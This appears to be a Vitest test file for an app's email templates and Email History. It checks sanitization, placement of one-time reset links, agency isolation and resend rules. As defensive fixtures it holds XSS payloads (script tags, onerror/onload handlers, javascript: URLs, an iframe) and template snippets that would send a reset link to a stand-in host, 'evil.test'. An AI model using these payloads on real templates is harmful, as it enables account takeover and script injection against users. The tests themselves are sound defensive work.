import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { mailInvitation, mailReset } from "../../../src/server/auth/account-mail.ts";
import { inTransaction } from "../../../src/server/db/transaction.ts";
import { queueMail } from "../../../src/server/mail/queue.ts";
import { type Client, startApp, type TestApp } from "../../support/app.ts";
import { user } from "../../support/factories.ts";

/** Without a mail server, queued mail stays and is visible in Email History. */
let platen: TestApp;
let agency: Client;
beforeAll(async () => {
  platen = await startApp({ env: { PUBLIC_URL: "https://platen.test" } });
  agency = await platen.as("agency");
});
afterAll(() => platen.close());
beforeEach(async () => {
  for (const table of ["mail_notifications", "email_history", "rate_limits"]) {
    await platen.database.pool.query(`delete from ${table}`);
  }
});

const queue = (to: string, name = "Ann", agencyId = platen.world.agencyId) =>
  inTransaction(platen.database, (tx) =>
    queueMail(
      tx,
      { reach: "agency", agencyId },
      {
        template: "topup-approved",
        to,
        values: { name, amount: "$5.00", payWith: "Payoneer", link: "/cms/s/balance" },
      },
    ),
  );
/** Queues a mail about an account, which has a link. */
const queueLink = (template: "invitation" | "reset-password", link: string) =>
  inTransaction(platen.database, (tx) =>
    queueMail(
      tx,
      { reach: "agency", agencyId: platen.world.agencyId },
      { template, to: "ann@shop.test", values: { name: "Ann", link } },
    ),
  );
/** A template from before templates were checked. Returns its id. */
const stored = async (code: string, html: string): Promise<string> => {
  const { rows } = await platen.database.pool.query(
    `insert into mail_notifications (agency_id, id, code, name, subject, html)
      values ($1, gen_random_uuid(), $2, 'Stored', 'Ours', $3) returning id`,
    [platen.world.agencyId, code, html],
  );
  return rows[0].id;
};
const history = async (client = agency) => (await client.get("email-history")).body.data;

describe("a template", () => {
  test("begins with the default text, is added once, and then has the agency's text", async () => {
    const defaults = (await agency.get("mail-notifications/default-templates")).body;
    expect(defaults.total).toBe(14);
    const topup = defaults.data.find((one: { code: string }) => one.code === "topup-approved");
    const added = await agency.post("mail-notifications", topup);
    expect(added.status, added.text).toBe(201);
    expect((await agency.post("mail-notifications", topup)).body).toEqual({
      message: "Code is already taken",
      errors: { code: "Code is already taken" },
    });
    const { id, code } = added.body;
    const one = (await agency.get(`mail-notifications/${id}`)).body;
    expect(one.data).toMatchObject({ id, code, name: "Top-up approved", subject: topup.subject });
    const html = '<p>{{amount}} for <b>{{name}}</b>: <a href="{{link}}">look</a></p>';
    const saved = await agency.patch(`mail-notifications/${id}`, {
      id,
      code,
      subject: "Thanks, {{name}}",
      html,
    });
    expect(saved.status, saved.text).toBe(200);

    await queue("ann@shop.test", "Ann & Co");
    const [mail] = await history();
    expect(mail).toMatchObject({
      to: "ann@shop.test",
      subject: "Thanks, Ann & Co",
      status: "queued",
      sentAt: null,
    });
    const { html: shown } = (await agency.get(`email-history/${mail.id}`)).body;
    expect(shown).toContain("$5.00 for <b>Ann &amp; Co</b>");
    expect(shown).toContain('href="https://platen.test/cms/s/balance"');
  });

  test("keeps its code, and requires a subject and a body", async () => {
    const { id } = (
      await agency.post("mail-notifications", {
        code: "invoice",
        name: "Invoice",
        subject: "S",
        html: "<p>B</p>",
      })
    ).body;
    const refused = async (body: unknown) =>
      Object.keys((await agency.patch(`mail-notifications/${id}`, body)).body.errors);
    expect(await refused({ code: "other" })).toEqual(["code"]);
    expect(await refused({ subject: "" })).toEqual(["subject"]);
    expect(await refused({ _id: id })).toEqual(["_id"]);
  });

  test("of a mail with a link is not saved without the link, nor under an unknown code", async () => {
    const write = (code: string, html: string) =>
      agency.post("mail-notifications", { code, name: "Mine", subject: "S", html });
    const message = "The body must contain {{link}}; the email does not work without it";
    for (const code of ["reset-password", "confirm-account"])
      expect((await write(code, "<p>Hello {{name}}</p>")).body.errors).toEqual({ html: message });
    // The sanitizer removes the link with the script.
    expect((await write("reset-password", "<script>{{link}}</script><p>x</p>")).status).toBe(400);
    expect((await write("my-own-mail", '<a href="{{link}}">x</a>')).body.errors).toEqual({
      code: "There is no email with this code",
    });
    const { id } = (await write("reset-password", '<a href="{{ link }}">x</a>')).body;
    expect((await agency.patch(`mail-notifications/${id}`, { html: "<p>x</p>" })).body.errors).toEqual({
      html: message,
    });
    expect((await agency.patch(`mail-notifications/${id}`, { subject: "Yours" })).status).toBe(200);
  });

  test("that was stored without its link is sent with the default text", async () => {
    await stored("reset-password", "<p>Hello {{name}}</p>");
    await queueLink("reset-password", "/cms/auth/reset");
    const [mail] = await history();
    const { html } = (await agency.get(`email-history/${mail.id}`)).body;
    expect(html).toContain("Choose a new password");
  });

  test("of account security is neither added nor changed, and a stored one is not sent", async () => {
    const errors = { code: "This email is part of account security and cannot be changed" };
    for (const code of [
      "invitation",
      "sign-in-attempts",
      "security-notice",
      "security-alert",
      "test-message",
    ]) {
      const body = { code, name: "Mine", subject: "S", html: '<a href="{{link}}">{{what}} {{detail}}</a>' };
      const added = await agency.post("mail-notifications", body);
      expect([added.status, added.body.errors]).toEqual([400, errors]);
    }
    const id = await stored("invitation", '<p>Ours</p><a href="{{link}}">x</a>');
    for (const change of [{ subject: "Yours" }, { html: '<a href="{{link}}">y</a>' }])
      expect((await agency.patch(`mail-notifications/${id}`, change)).body.errors).toEqual(errors);
    const text = { subject: "S", html: '<a href="{{link}}">y</a>' };
    expect((await agency.post(`mail-notifications/${id}/preview`, text)).status).toBe(404);
    await queueLink("invitation", "/cms/auth/invitation");
    const [mail] = await history();
    expect(mail.subject).toMatch(/^Your account at /);
    expect((await agency.get(`email-history/${mail.id}`)).body.html).toContain("Choose a password to begin");
    expect((await agency.delete(`mail-notifications/${id}`)).status).toBe(200);
  });

  const GOOD =
    '<p>{{link}}</p><p><a href="{{link}}" title="Reset">Reset</a> or <a href="{{ link }}">{{link}}</a></p>';
  const LEAKS = [
    '<img src="https://evil.test/?{{link}}">',
    '<img src="https://evil.test/?&#123;&#123;link}}">',
    '<img src="https://evil.test/a.png" alt="{{link}}">',
    '<a href="https://evil.test/?to={{link}}">x</a>',
    '<a href="{{link}}{{link}}">x</a>',
    '<a href="{{link}}&next=https://evil.test">x</a>',
    '<a href="https://evil.test/" title="{{ link }}">x</a>',
  ];

  test("with a one-time link has it as the whole address of a link or as text, and nowhere else", async () => {
    const message =
      "{{link}} works once. It may be the whole address of a link, or text, but no part of another address, of an image or of another attribute";
    for (const code of ["reset-password", "confirm-account"]) {
      const template = { code, name: "Mine", subject: "S" };
      for (const leak of LEAKS) {
        const refused = await agency.post("mail-notifications", { ...template, html: GOOD + leak });
        expect([leak, refused.status, refused.body.errors]).toEqual([leak, 400, { html: message }]);
      }
      const added = await agency.post("mail-notifications", { ...template, html: GOOD });
      expect(added.status, added.text).toBe(201);
      const edited = await agency.patch(`mail-notifications/${added.body.id}`, { html: GOOD + LEAKS[0] });
      expect(edited.body.errors).toEqual({ html: message });
    }
    // The link of this one opens a screen for who is signed in, and nothing for others.
    const invoice = { code: "invoice", name: "Invoice", subject: "S", html: LEAKS[3] };
    expect((await agency.post("mail-notifications", invoice)).status).toBe(201);
  });

  test("that was stored with its one-time link elsewhere is sent with the default text", async () => {
    const sent = async (html: string) => {
      await platen.database.pool.query("delete from mail_notifications");
      await platen.database.pool.query("delete from email_history");
      await stored("reset-password", html);
      await queueLink("reset-password", "/cms/auth/reset");
      const [mail] = await history();
      return { subject: mail.subject, html: (await agency.get(`email-history/${mail.id}`)).body.html };
    };
    for (const leak of LEAKS) {
      const { subject, html } = await sent(GOOD + leak);
      expect(subject).toMatch(/^Reset your password at /);
      expect(html).toContain("Choose a new password");
      expect(html).not.toContain("evil.test");
    }
    expect(await sent(GOOD)).toMatchObject({
      subject: "Ours",
      html: expect.stringContaining(">Reset</a> or"),
    });
  });

  test("is saved and sent without scripts or remote content, even if its stored text was never sanitized", async () => {
    const malicious =
      '<p onclick="x()">{{name}}</p><script>x()</script><iframe src="https://evil.test"></iframe>' +
      '<a href="javascript:x()">a</a><img src="http://evil.test/a.png" onerror="x()"><svg onload="x()"></svg>' +
      '<a href="{{link}}">ok</a><style>@import url(https://evil.test)</style><p style="background:url(https://evil.test)">b</p>';
    const body = { code: "topup-approved", name: "Topup", subject: "S", html: malicious };
    const created = (await agency.post("mail-notifications", body)).body;
    const forbidden = /script|onclick|onerror|onload|iframe|javascript:|evil\.test|<style|<svg/i;
    expect(created.html).not.toMatch(forbidden);
    expect(created.html).toContain('<a href="{{link}}"');
    // Stored before texts were sanitized.
    await platen.database.pool.query("update mail_notifications set html = $1", [malicious]);
    await queue("ann@shop.test", "<img src=x onerror=alert(1)>");
    const [mail] = await history();
    const { html } = (await agency.get(`email-history/${mail.id}`)).body;
    expect(html.replace("&lt;img src=x onerror=alert(1)&gt;", "")).not.toMatch(forbidden);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
  });

  test("belongs to an agency: others can neither read nor use it", async () => {
    const { id } = (
      await agency.post("mail-notifications", {
        code: "topup-approved",
        name: "T",
        subject: "Ours",
        html: "<p>x</p>",
      })
    ).body;
    const { otherAgency } = platen.world;
    const other = await platen.newPerson("agency", { agencyId: otherAgency.agencyId });
    expect((await other.get(`mail-notifications/${id}`)).status).toBe(404);
    expect((await other.patch(`mail-notifications/${id}`, { subject: "Theirs" })).status).toBe(404);
    await queue("ann@shop.test", "Ann", otherAgency.agencyId);
    expect((await history(other))[0].subject).toBe("Your top-up of $5.00 was approved");
    expect(await history()).toEqual([]);
  });
});

describe("Email History", () => {
  test("says that nothing is sent without a mail server, and shows the waiting mails, without links that work once", async () => {
    expect((await agency.get("email-history/delivery")).body).toEqual({ sends: false });
    platen.app.jobs.kick();
    await platen.app.jobs.idle();
    const person = await user(platen.database, "seller", platen.world);
    await platen.nobody.post("auth/forgot-password", { email: person.email });
    const [mail] = await history();
    expect(mail).toMatchObject({
      to: person.email,
      template: "reset-password",
      status: "queued",
      attempts: 0,
    });
    // A person who reads the link of a reset could use the account, also that of a co-manager.
    expect((await agency.get(`email-history/${mail.id}`)).text).not.toContain("token=");
  });

  test("shows the link of an invitation only to people who may make one", async () => {
    const invite = async (
      userType: "seller" | "agency",
      owner: { agencyId: string; sellerTeamId?: string },
    ) => {
      const person = await user(platen.database, userType, owner);
      await platen.database.pool.query("update users set password_hash = null where id = $1", [person.id]);
      const scope = { reach: "agency", agencyId: owner.agencyId } as const;
      await inTransaction(platen.database, (tx) =>
        mailInvitation(tx, { userId: person.id, scope, fullName: "Ann", email: String(person.email) }),
      );
      const mails = await history();
      const { id } = mails.find(({ to }: { to: string }) => to === person.email) ?? {};
      return (await agency.get(`email-history/${id}`)).text;
    };
    const { agencyId, sellerTeamId } = platen.world;
    expect(await invite("seller", { agencyId, sellerTeamId })).toContain("token=");
    expect(await invite("agency", { agencyId })).not.toContain("token=");
  });

  test("shows one-time links only to their recipients once there is a mail server", async () => {
    const withServer = await startApp({
      env: { SMTP_URL: "smtp://127.0.0.1:9", PUBLIC_URL: "https://platen.test" },
    });
    const { agencyId } = withServer.world;
    const reader = await withServer.as("agency");
    expect((await reader.get("email-history/delivery")).body).toEqual({ sends: true });
    const { id: userId } = await user(withServer.database, "seller", withServer.world);
    await inTransaction(withServer.database, (tx) =>
      mailReset(tx, {
        userId,
        scope: { reach: "agency", agencyId },
        fullName: "Ann",
        email: "ann@shop.test",
        isConfirmed: true,
      }),
    );
    const [mail] = (await reader.get("email-history")).body.data;
    const shown = await reader.get(`email-history/${mail.id}`);
    expect(shown.body.html).toContain("https://link.invalid/");
    for (const path of ["email-history", `email-history/${mail.id}`, "email-history/export"]) {
      expect((await reader.get(path)).text).not.toContain("token=");
    }
    await withServer.close();
  });

  test("filters by state, and searches by address and subject", async () => {
    await queue("ann@shop.test");
    await queue("bob@shop.test");
    await platen.database.pool.query(
      `update email_history set status = 'failed', reason = '550 no such mailbox' where "to" like 'bob%'`,
    );
    const found = async (query: string) =>
      (await agency.get(`email-history?${query}`)).body.data.map((mail: { to: string }) => mail.to);
    expect(await found("status=failed")).toEqual(["bob@shop.test"]);
    expect(await found("search=ann@")).toEqual(["ann@shop.test"]);
    expect(await found("search=top-up")).toHaveLength(2);
  });

  test("shows an agency its own mail, and administrators that of the platform", async () => {
    const administrator = await platen.as("administrator");
    const person = await user(platen.database, "administrator");
    await platen.nobody.post("auth/forgot-password", { email: person.email });
    expect(await history()).toEqual([]);
    const [mail] = await history(administrator);
    expect(mail.to).toBe(person.email);
    expect((await agency.get(`email-history/${mail.id}`)).status).toBe(404);
    expect((await agency.post(`email-history/${mail.id}/resend`)).status).toBe(404);
    for (const role of ["agency:staff", "agency:accounting", "seller"] as const) {
      expect((await (await platen.as(role)).get("email-history")).status).toBe(403);
    }
  });

  test("shows administrators the mails that they caused, and none that an agency caused", async () => {
    const administrator = await platen.as("administrator");
    await administrator.post("agencies", { name: "Harbor", code: "harbor", manager: "mara@harbor.test" });
    await queue("ann@shop.test");
    const [agencys] = await history();
    const listed = await history(administrator);
    expect(listed.map((mail: { to: string }) => mail.to)).toEqual(["mara@harbor.test"]);
    const shown = await administrator.get(`email-history/${listed[0].id}`);
    expect([shown.status, shown.body.template]).toEqual([200, "invitation"]);
    expect((await administrator.get(`email-history/${agencys.id}`)).status).toBe(404);
    expect((await administrator.post(`email-history/${agencys.id}/resend`)).status).toBe(404);
    expect((await administrator.get("email-history/export")).text).not.toContain("ann@shop.test");
    await platen.database.pool.query("update email_history set status = 'failed'");
    expect((await administrator.post(`email-history/${listed[0].id}/resend`)).status).toBe(200);
    expect((await (await platen.as("supplier")).get("email-history")).status).toBe(403);
  });

  test("resends only mail that failed or may not have arrived, while its link works", async () => {
    await queue("ann@shop.test");
    const [mail] = await history();
    const resend = async () => (await agency.post(`email-history/${mail.id}/resend`)).status;
    const set = (assignment: string) => platen.database.pool.query(`update email_history set ${assignment}`);
    expect(await resend()).toBe(400);
    await set("status = 'failed', attempts = 8");
    expect(await resend()).toBe(200);
    expect((await history())[0]).toMatchObject({ status: "queued", attempts: 0 });
    await set("status = 'uncertain', send_before = now()");
    expect(await resend()).toBe(400);
  });
});
